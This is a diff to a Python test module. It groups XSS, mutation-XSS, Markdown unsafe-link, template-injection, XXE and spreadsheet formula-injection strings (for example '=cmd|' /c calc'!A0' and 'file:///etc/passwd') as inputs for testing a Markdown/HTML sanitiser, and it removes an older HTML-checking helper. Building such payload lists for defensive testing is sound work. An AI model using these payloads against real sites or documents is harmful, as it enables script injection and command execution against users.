@@ -1,119 +1,252 @@
-"""Strings that try to get a script into a page, and a look at whether one did."""
+"""Strings that try to get a script, a picture or a style into a page, by the way they try it."""
 
-import html
 import re
-from html.parser import HTMLParser
 
-STRINGS = (
+SCRIPTS = (
     "<script>alert(1)</script>",
     "<ScRiPt src=//x.y></sCrIpT>",
     "<script\x0c>alert(1)</script>",
+    "<script/x>alert(1)</script>",
+    "<script type=module>import('//x.y')</script>",
     "<<script>alert(1)//<</script>",
+    "<script>alert(1)",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "``<script>alert(1)</script>",
+)
+PICTURES = (
     "<img src=x onerror=alert(1)>",
     "<img/src='x'/onerror=alert(1)>",
     "<img src=x onerror=alert(1) //",
+    "<img src=//x.y/pixel>",
+    "<img srcset='//x.y 1x'>",
+    "<picture><source srcset=//x.y><img></picture>",
+    "<image src=x onerror=alert(1)>",
+    "<video poster=//x.y onloadstart=alert(1)><source onerror=alert(1)></video>",
+    "<audio src=//x.y autoplay onerror=alert(1)>",
     "<svg onload=alert(1)>",
     "<svg onload=alert(1)//",
+    "<svg/onload=alert(1)>",
     "<svg><script>alert(1)</script></svg>",
     "<svg><style><img src=x onerror=alert(1)></style></svg>",
+    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "<svg><use href='data:image/svg+xml,<svg onload=alert(1)>#x'></use></svg>",
+    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
     "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
+    "<math href=javascript:alert(1)>x</math>",
+)
+ELEMENTS = (
     "<iframe src=javascript:alert(1)>",
     "<iframe srcdoc='<script>alert(1)</script>'>",
     "<object data=javascript:alert(1)>",
     "<embed src=javascript:alert(1)>",
-    "<style>*{background:url(javascript:alert(1))}</style>",
-    "<p style='background:url(//x.y)'>",
+    "<frameset onload=alert(1)>",
     "<link rel=stylesheet href=//x.y>",
     "<base href=//x.y>",
     "<meta http-equiv=refresh content=0;url=//x.y>",
+    "<meta http-equiv=refresh content='0;javascript:alert(1)'>",
     "<form action=javascript:alert(1)><button>x</button></form>",
+    "<button formaction=javascript:alert(1)>x</button>",
+    "<input autofocus onfocus=alert(1)>",
+    "<select autofocus onfocus=alert(1)><option>x</select>",
+    "<textarea autofocus onfocus=alert(1)>",
+    "<keygen autofocus onfocus=alert(1)>",
+    "<isindex action=javascript:alert(1) type=image>",
     "<details open ontoggle=alert(1)>",
+    "<marquee onstart=alert(1)>x</marquee>",
+    "<dialog open onclose=alert(1)>x</dialog>",
+    "<body onload=alert(1) onpageshow=alert(1)>",
+    "<template><script>alert(1)</script></template>",
+    "<x-y onclick=alert(1)>x</x-y>",
+    "<pb-tick onclick=alert(1)>x</pb-tick>",
     "<a href=javascript:alert(1)>x</a>",
     "<a onclick=alert(1)>x</a>",
-    "<template><script>alert(1)</script></template>",
-    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
-    "<!--><img src=x onerror=alert(1)>-->",
+    "<a href=//x.y ping=//x.y download>x</a>",
+    "<b/onmouseover=alert(1)>x</b>",
+)
+STYLES = (
+    "<style>*{background:url(javascript:alert(1))}</style>",
+    "<style>@import '//x.y';</style>",
+    "<p style='background:url(//x.y)'>",
+    "<p style=position:fixed;inset:0>x",
+    "}</style><style>body{display:none}",
+    "x;background:url(//x.y)",
+    "expression(alert(1))",
+    "/*</style><script>alert(1)</script>*/",
+    "#fff;}body{background:url(//x.y)}",
+)
+BREAKOUTS = (
     "</textarea></title></style><script>alert(1)</script>",
+    "</title><script>alert(1)</script>",
+    "</script><script>alert(1)</script>",
+    "</textarea><img src=x onerror=alert(1)>",
+    "</noscript></template></select><img src=x onerror=alert(1)>",
+    "</article></main></body></html><script>alert(1)</script>",
+    "]]><script>alert(1)</script>",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "--><script>alert(1)</script>",
+    "--!><img src=x onerror=alert(1)>",
+    "<!--><img src=x onerror=alert(1)>-->",
+    "<!-- <img src=x onerror=alert(1)>",
+    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY y SYSTEM '//x.y'>]>&y;",
     '"><script>alert(1)</script>',
+    "'><script>alert(1)</script>",
     "' onmouseover='alert(1)",
     '" autofocus onfocus=alert(1) x="',
+    "` onmouseover=alert(1) `",
+    'x" style="background:url(//x.y)" y="',
+    '\\"-alert(1)//',
+    "';alert(1);//",
+    "</loc></url><script>alert(1)</script>",
+)
+MUTATIONS = (
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table>",
+    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
+    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
+    "<p><svg><title><a title='</title><img src=x onerror=alert(1)>'></svg>",
+    "<table><td background=//x.y><script>alert(1)</script></table>",
+    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
+    "<select><option><style></option></select><img src=x onerror=alert(1)></style>",
+    "<img src=`x`onerror=alert(1)>",
+    "<a title='`<img src=x onerror=alert(1)>`'>x</a>",
+)
+ENTITIES = (
     "&lt;script&gt;alert(1)&lt;/script&gt;",
     "&#60;script&#62;alert(1)&#60;/script&#62;",
+    "&#x3c;img src=x onerror=alert(1)&#x3e;",
+    "&#0000060script&#0000062alert(1)",
+    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
+    "&LT;script&GT;alert(1)",
+    "%3Cscript%3Ealert(1)%3C/script%3E",
+    "\\u003cscript\\u003ealert(1)",
+    "\\x3cimg src=x onerror=alert(1)\\x3e",
+    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
+    "＜script＞alert(1)＜/script＞",
+    "‹script›alert(1)‹/script›",
+)
+UNSAFE_LINKS = (
     "[x](javascript:alert(1))",
     "[x](JaVaScRiPt:alert(1))",
     "[x](java\tscript:alert(1))",
+    "[x](java\nscript:alert(1))",
     "[x](\x01javascript:alert(1))",
+    "[x]( javascript:alert(1))",
     "[x](&#106;avascript&#58;alert(1))",
+    "[x](&#x6A;avascript:alert(1))",
     "[x](javascript&colon;alert(1))",
+    "[x](java&Tab;script:alert(1))",
+    "[x](javascript&#x3a;alert(1))",
+    "[x](javascript%3Aalert(1))",
+    "[x](\\javascript:alert(1))",
+    "[x](java\\script:alert(1))",
     "[x](<javascript:alert(1)>)",
+    "[x](< javascript:alert(1)>)",
+    "[x](javascript://x.y/%0aalert(1))",
+    "[x](view-source:javascript:alert(1))",
     "[x](data:text/html;base64,PHNjcmlwdD4=)",
+    "[x](data:text/html,<script>alert(1)</script>)",
+    "[x](DATA:image/svg+xml,<svg onload=alert(1)>)",
     "[x](vbscript:msgbox(1))",
-    "[x](https://a.b \"' onclick=alert(1) '\")",
+    "[x](blob:https://a.b/x)",
+    "[x](file:///etc/passwd)",
+    "[x](servicebook:plays/a)",
+    "[x](//x.y)",
+    "[x](/\\x.y)",
+    "[x](\\\\x.y)",
+    "[x](https:javascript:alert(1))",
     '[x](https://a.b" onclick="alert(1))',
+    "[x](https://a.b<img src=x onerror=alert(1)>)",
     "[x][y]\n\n[y]: javascript:alert(1)",
-    "<javascript:alert(1)>",
+    "[y]\n\n[y]: <javascript:alert(1)> 'x'",
+    "[x][]\n\n[x]: data:text/html,x",
+    "<javascript://x.y>",
+    "[x](plays/../../javascript:alert(1))",
+    "[x](#javascript:alert(1))",
+    "[x](?javascript:alert(1))",
+)
+"""Refused where Markdown is read."""
+REFUSED_PICTURES = (
     '![x](x" onerror="alert(1))',
     "![x](javascript:alert(1))",
-    "\x02wzxhzdk:0\x03<script>alert(1)</script>",
-    "{: onclick=alert(1) }",
-    "{{ 7*7 }}{% raw %}",
-    "``<script>alert(1)</script>",
+    "![x](//x.y/pixel)",
+    "![x][y]\n\n[y]: //x.y/pixel",
+    "[![x](//x.y/pixel)](https://a.b)",
 )
-SAFE_SCHEMES = {"https", "http", "mailto", "tel"}
-SCHEME = re.compile(r"([a-z][a-z0-9+.-]*):")
-ATTRIBUTES = {"a": {"href", "title", "rel"}}
-
-
-class _Reader(HTMLParser):
-    def __init__(self) -> None:
-        super().__init__(convert_charrefs=True)
-        self.tags: list[tuple[str, dict[str, str]]] = []
-        self.text: list[str] = []
-
-    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
-        self.tags.append((tag, {name: value or "" for name, value in attrs}))
-
-    def handle_data(self, data: str) -> None:
-        self.text.append(data)
-
-    def handle_comment(self, data: str) -> None:
-        self.tags.append((f"!--{data}", {}))
-
-
-def tags_in(source: str) -> list[tuple[str, dict[str, str]]]:
-    """List every element of some HTML as a browser sees it, with its attributes."""
-    reader = _Reader()
-    reader.feed(source)
-    reader.close()
-    return reader.tags
-
-
-def shown_in(source: str) -> str:
-    """Return the text that some HTML shows."""
-    reader = _Reader()
-    reader.feed(source)
-    reader.close()
-    return "".join(reader.text)
-
-
-def problems_in(source: str, tags: set[str]) -> list[str]:
-    """Say what is in some HTML beyond the tags named and the attributes of a link."""
-    found = []
-    for tag, attributes in tags_in(source):
-        if tag not in tags:
-            found.append(f"<{tag}>")
-        found += [f"{tag} {name}" for name in attributes.keys() - ATTRIBUTES.get(tag, set())]
-        found += [f"{tag} {one}" for one in unsafe_addresses(attributes)]
-    return found
-
-
-def unsafe_addresses(attributes: dict[str, str]) -> list[str]:
-    """Return the addresses among attributes that a browser would run or take from elsewhere."""
-    addresses = (attributes.get(name) for name in ("href", "src", "action", "data", "srcdoc"))
-    plain = ("".join(html.unescape(one).split()).lower() for one in addresses if one)
-    return [one for one in plain if one.startswith(("//", "\\")) or not _has_safe_scheme(one)]
-
-
-def _has_safe_scheme(address: str) -> bool:
-    scheme = SCHEME.match(address)
-    return scheme is None or scheme[1] in SAFE_SCHEMES
+"""The same, because no text holds a picture."""
+HARMLESS_LINKS = (
+    "[x](https://a.b \"' onclick=alert(1) '\")",
+    "[x](https://a.b 'x\" onclick=\"alert(1)')",
+    "[x](mailto:x?body=<script>alert(1)</script>)",
+    "[<img src=x onerror=alert(1)>](https://a.b)",
+    "[a]: https://a.b 'x\" onclick=\"alert(1)'\n\n[a]",
+    "<javascript:alert(1)>",
+    "<data:text/html,x>",
+    '<https://a.b/"onclick=alert(1)>',
+    '<x@y.z?subject="onclick=alert(1)>',
+)
+"""Links that are good, or that Markdown takes for no links."""
+TEMPLATES = (
+    "{: onclick=alert(1) }",
+    "{: .x style='background:url(//x.y)' }",
+    "*x*{: onmouseover=alert(1) }",
+    "{{ 7*7 }}{% raw %}",
+    "{{constructor.constructor('alert(1)')()}}",
+    "${alert(1)} #{alert(1)} <%= alert(1) %>",
+    "[[alert(1)]] @{alert(1)} {@html alert(1)}",
+    "--8<-- '/etc/passwd'",
+    ":material-alert: ==x== ^^x^^ ~~x~~ ++ctrl++",
+    '!!! note "<img src=x onerror=alert(1)>"',
+    "```mermaid\nclick A href 'javascript:alert(1)'\n```",
+    "$$\\href{javascript:alert(1)}{x}$$",
+    "<div markdown=1 onclick=alert(1)>*x*</div>",
+    "[TOC]",
+    "\x02wzxhzdk:0\x03<script>alert(1)</script>",
+    "\x02klzzwxh:0000\x03",
+    "=cmd|'/c calc'!A0",
+    "@SUM(1+1)*cmd|' /c calc'!A0",
+)
+UNSEEN = (
+    "a\u202e)1(trela\u202cb",
+    "\u2066a\u2067b\u2069c",
+    "\u200ba\u200cb\u200dc\u2060d\ufeffe",
+    "java\u200bscript:alert(1)",
+    "<\u200bscript>alert(1)</script>",
+    "a\u2028b\u2029c\x85d",
+    "a\u00a0\u00adb\u3000c",
+    "<img src=x\u00a0onerror=alert(1)>",
+    "a\x00b<\x00script>alert(1)</script>",
+    "\x1b[31mred\x1b]0;title\x07\x1b[2J\x9b1m",
+    "a\rb\x08\x7f\x0b",
+    "\ufffe\uffff\ufffd",
+    "Z̸̢̛͚͔̮͍a̷̛̮͔l̵̡̛͕g̵̨̛̣o̴̡̙͝",
+    "مرحبا <b>x</b> שלום",
+    "👩‍👩‍👧‍👦🏳️‍🌈",
+)
+LONG = (
+    "W" * 300,
+    "ﷺ" * 100,
+    "a" + "\u0301" * 200,
+    "<b>" * 90,
+)
+CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028\u2029\ufffe\uffff]")
+"""What no text may hold."""
+STRINGS = (
+    *SCRIPTS,
+    *PICTURES,
+    *ELEMENTS,
+    *STYLES,
+    *BREAKOUTS,
+    *MUTATIONS,
+    *ENTITIES,
+    *UNSAFE_LINKS,
+    *REFUSED_PICTURES,
+    *HARMLESS_LINKS,
+    *TEMPLATES,
+    *UNSEEN,
+    *LONG,
+)
+WRITABLE = tuple(text for text in STRINGS if CONTROL.search(text) is None)
+"""Those that a file may hold."""
+READABLE = tuple(text for text in WRITABLE if text not in (*UNSAFE_LINKS, *REFUSED_PICTURES))
+"""Those that a text with formatting may hold."""
